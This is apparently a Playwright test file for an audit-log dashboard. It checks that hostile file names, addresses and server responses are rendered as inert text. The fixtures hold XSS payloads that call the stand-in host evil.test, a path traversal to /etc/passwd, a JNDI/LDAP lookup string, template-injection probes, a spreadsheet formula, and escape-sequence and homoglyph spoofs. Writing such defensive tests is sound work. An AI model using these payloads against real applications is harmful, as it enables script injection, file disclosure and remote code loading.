"""Tests of what attacks from outside the records: names of uploaded files, addresses, a server's answers."""

from __future__ import annotations

import json
import re
from typing import TYPE_CHECKING, Final

import pytest
from playwright.sync_api import FilePayload, expect

from audit_explorer.shown.inert import visible
from tests.browser.server import serve
from tests.browser.test_hostile import LOG, _harmless
from tests.builders import make_legacy
from tests.control_plane.raw_answer import answering

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.browser.conftest import Visit
    from tests.browser.dashboard import Dashboard

pytestmark = pytest.mark.browser

MARKUP: Final = (
    "<img src=x onerror=\"this.src='http://evil.test/x'\"> ![p](http://evil.test/p.png) **b** $\\sum$ :smile:"
)
NAMES: Final = {
    "markup": f"{MARKUP}.json",
    "script": "<script>document.title='owned'</script>.json",
    "terminal": "\x1b[31mred\x1b]8;;http://evil.test/osc\x1b\\.json",
    "reversed": "\u202egnp.exe\u2066.json",
    "lines": "one\ntwo\r\nthree\u2028four.json",
    "upwards": "../../../../etc/passwd.json",
    "backslashes": "..\\..\\evil.json",
    "long": f"{'W' * 2_000}.json",
    "look-alike": "l\u043egs.json",
    "template": "{0.__class__} %s ${jndi:ldap://evil.test/a} {{7*7}}.json",
    "formula": '=HYPERLINK("http://evil.test").json',
}
RECORDS: Final = [make_legacy(id=1, entityName="team-a"), make_legacy(id=2, entityName="team-b")]


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory, chromium: object) -> Iterator[str]:
    """Serve the app over the hostile log, with an archive of its own."""
    del chromium
    with serve(tmp_path_factory.mktemp("hostile-names"), LOG) as base:
        yield base


def upload(tab: Dashboard, *files: tuple[str, bytes]) -> None:
    """Upload files with these names and contents."""
    tab.sidebar.get_by_text("Open a log", exact=True).click()
    tab.sidebar.locator("input[type=file]").set_input_files(
        [FilePayload(name=name, mimeType="application/json", buffer=content) for name, content in files]
    )


def shown_name(name: str) -> re.Pattern[str]:
    """Give what is on the page of a name: its beginning, as the browser sends it, without what hides or leads up."""
    last = re.split(r"[/\\]", name)[-1] if name.startswith("..") else name
    for sign in '\r\n"':
        last = last.replace(sign, f"%{ord(sign):02X}")
    return re.compile(re.escape(visible(last)[:24].rstrip()))


@pytest.mark.parametrize("kind", NAMES)
def test_an_uploaded_files_name_is_text(app: str, visit: Visit, kind: str) -> None:
    """Beside the records, in the table of files, and among the problems it is shown inert; so is what it leaves out."""
    tab = visit(app)
    broken = json.dumps([*RECORDS, MARKUP]).encode()
    upload(tab, (NAMES[kind], broken), ("other.json", json.dumps(RECORDS).encode()))
    expect(tab.figure("Events")).to_have_text("2", timeout=40_000)
    tab.drawn()
    _harmless(tab)
    tab.page.get_by_text(re.compile("^File, place and text of each")).click()
    texts = " ".join(" ".join(row) for number in (0, 1) for row in tab.rows(tab.table(number)))
    assert shown_name(NAMES[kind]).search(texts), repr(texts)
    assert "\u202e" not in texts
    _harmless(tab)


@pytest.mark.parametrize("kind", ["markup", "terminal", "reversed", "lines", "long"])
def test_a_file_that_is_no_log_is_named_as_text(app: str, visit: Visit, kind: str) -> None:
    """The error box has the name and what was found instead, and nothing of either acts."""
    tab = visit(app)
    upload(tab, (NAMES[kind], MARKUP.encode()))
    box = tab.page.get_by_test_id("stMain").get_by_test_id("stAlert").filter(has_text="holds no audit record")
    expect(box).to_have_count(1, timeout=40_000)
    expect(box).to_contain_text(shown_name(NAMES[kind]))
    _harmless(tab)


def test_a_hostile_log_in_the_archive_is_text(app: str, visit: Visit) -> None:
    """Added, it changes neither calendar nor ledger into anything else; a download's name has none of its words."""
    tab = visit(app)
    upload(tab, (NAMES["markup"], LOG.read_bytes()))
    expect(tab.page.get_by_test_id("stException")).to_have_count(0)
    expect(tab.sidebar.get_by_role("combobox", name="Log")).to_have_count(1, timeout=40_000)
    tab.drawn()
    add = tab.sidebar.get_by_role("button", name="Add this log to the archive")
    if not add.is_visible():
        tab.sidebar.get_by_text("Open a log", exact=True).click()
    add.click()
    expect(tab.page.get_by_text(re.compile("records added"))).to_be_visible(timeout=40_000)
    tab.turn_to("Archive")
    _harmless(tab)
    tab.page.get_by_text("The same as a table").click()
    _harmless(tab)
    tab.page.get_by_role("button", name="Explore the archive").click()
    expect(tab.page.locator(".st-key-heading").get_by_role("heading", name="Overview")).to_be_visible()
    tab.drawn()
    tab.turn_to("Explore")
    tab.mark(tab.table(), 1)
    tab.drawer.get_by_text("Raw record").click()
    _harmless(tab)


@pytest.mark.parametrize(
    "address",
    [
        f"https://{MARKUP}",
        "![x](http://evil.test/x.png)",
        "javascript:alert(1)",
        "https://tenant.run.ai/<img src=x onerror=alert(1)>?![x](http://evil.test)",
        "https://\u202eia.nur.tnanet",
        "https://user:canary@evil.test",
        f"https://{'w' * 1_900}.test",
        "https://\u0430dmin.run.ai\x1b[31m",
    ],
)
def test_a_hostile_address_is_text(app: str, visit: Visit, address: str) -> None:
    """What is typed is refused in words that show it inert; nothing is asked."""
    tab = visit(app, "/fetch")
    tab.page.get_by_label("Address").fill(address)
    tab.page.get_by_label("Token", exact=True).fill("canary-token")
    tab.page.get_by_role("button", name="Fetch", exact=True).click()
    box = tab.page.get_by_test_id("stMain").get_by_test_id("stAlert")
    expect(box.first).to_be_visible(timeout=60_000)
    _harmless(tab)
    assert "canary-token" not in tab.page.locator("body").inner_text()


@pytest.mark.parametrize(
    "answer",
    [
        f"HTTP/1.1 400 {MARKUP}\r\nX-A: {MARKUP}\r\n\r\n" + json.dumps({"message": MARKUP, "error": "invalid token"}),
        "HTTP/1.1 302 Found\r\nLocation: http://evil.test/<img src=x>\r\n\r\n",
        f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script src=http://evil.test/x.js></script>{MARKUP}",
        "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\r\n" + json.dumps({MARKUP: MARKUP}),
    ],
)
def test_a_hostile_answer_is_text(app: str, visit: Visit, answer: str) -> None:
    """What a server says becomes neither an element nor a request, on the page Fetch and in both ledgers."""
    with answering(answer) as address:
        tab = visit(app, "/fetch")
        tab.page.get_by_label("Address").fill(address)
        tab.page.get_by_label("Token", exact=True).fill("canary-token")
        tab.page.get_by_role("button", name="Fetch", exact=True).click()
        expect(tab.page.get_by_text(re.compile("^(Partial|Nothing came), because of an error"))).to_be_visible(
            timeout=60_000
        )
        tab.page.get_by_text(re.compile(r"^\d+ requests?$")).click()
        expect(tab.page.get_by_test_id("stMain")).not_to_contain_text("evil")
        _harmless(tab)
    tab.turn_to("Archive")
    tab.page.get_by_text(re.compile(r"^\d+ requests?, newest first")).click()
    _harmless(tab)


def test_look_alike_names_are_marked_in_words(app: str, visit: Visit) -> None:
    """Facet, table, drawer and the entity's own page say which letters a name has; the facet filters by them."""
    tab = visit(app, "/events")
    tab.value("Look-alike names", "Cyrillic").click()
    expect(tab.sentence).to_contain_text("with look-alike letters Cyrillic")
    assert ("lookalike", "Cyrillic") in tab.query()
    expect(tab.chips).to_have_count(1)
    rows = tab.rows(tab.table())
    marked = [number for number, row in enumerate(rows, 1) if "\u0430dmin \u26a0 has Cyrillic letters" in row]
    assert marked
    assert not [row for row in rows if "admin \u26a0 has Cyrillic letters" in row]
    tab.mark(tab.table(), marked[0])
    expect(tab.drawer).to_contain_text("\u0430dmin \u26a0 has Cyrillic letters")
    _harmless(tab)
